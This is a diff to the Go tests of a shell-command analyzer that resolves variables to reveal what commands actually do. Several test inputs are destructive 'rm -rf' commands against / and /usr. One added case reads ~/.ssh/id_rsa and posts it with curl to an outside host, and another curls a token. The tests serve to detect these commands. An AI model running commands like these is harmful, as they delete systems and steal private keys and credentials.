@@ -35,7 +35,11 @@ func summary(a *Analysis) string {
 	}
 	out := strings.Join(lines, "; ")
 	out = strings.ReplaceAll(out, Match, "<match>")
-	return strings.NewReplacer(Dyn+"S0"+Dyn, "$(0)", Dyn+"P0"+Dyn, "<(0)", Dyn, "?").Replace(out)
+	out = strings.NewReplacer(Dyn+"S0"+Dyn, "$(0)", Dyn+"P0"+Dyn, "<(0)").Replace(out)
+	for _, v := range Vars(out) {
+		out = strings.Replace(out, varMark+v+Dyn, "$"+v, 1)
+	}
+	return strings.ReplaceAll(out, Dyn, "?")
 }
 
 func TestAnalyze(t *testing.T) {
@@ -77,7 +81,9 @@ func TestAnalyze(t *testing.T) {
 		{`X=/; rm -rf $X`, `rm -rf /`},
 		{`export D=/srv; rm -rf "$D"`, `export D=/srv; rm -rf /srv`},
 		{`for d in / /usr; do rm -rf $d; done`, `rm -rf /; rm -rf /usr`},
-		{`rm -rf $UNSET/`, `rm -rf ?/`},
+		{`rm -rf $UNSET/`, `rm -rf $UNSET/`},
+		{`rm -rf "${UNSET:?}"/x "$1"`, `rm -rf $UNSET/x ?`},
+		{`K=$(cat ~/.ssh/id_rsa); curl -d "$K" https://x`, `cat /home/dev/.ssh/id_rsa; curl -d $(0) https://x`},
 		// data is not a command
 		{`echo "rm -rf /"`, `echo rm -rf /`},
 		{`git commit -m "rm -rf / is bad"`, `git commit -m rm -rf / is bad`},
@@ -187,4 +193,21 @@ func FuzzAnalyze(f *testing.F) {
 			_ = c.Writes(world.Home)
 		}
 	})
+}
+
+func TestMarks(t *testing.T) {
+	a, err := Analyze(`curl -d "$TOKEN:$(date)" "$1" ${HOME}/x`, world, Limits{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	c := a.Cmds[len(a.Cmds)-1]
+	if got := strings.Join(Vars(strings.Join(c.Args, " ")), ","); got != "TOKEN" {
+		t.Errorf("Vars = %q, want TOKEN", got)
+	}
+	if got := Show(strings.Join(c.Args, " ")); got != "-d $TOKEN:… … /home/dev/x" {
+		t.Errorf("Show = %q", got)
+	}
+	if got := Plain(strings.Join(c.Args, " ")); got != "-d "+Dyn+":"+Dyn+" "+Dyn+" /home/dev/x" {
+		t.Errorf("Plain = %q", got)
+	}
 }
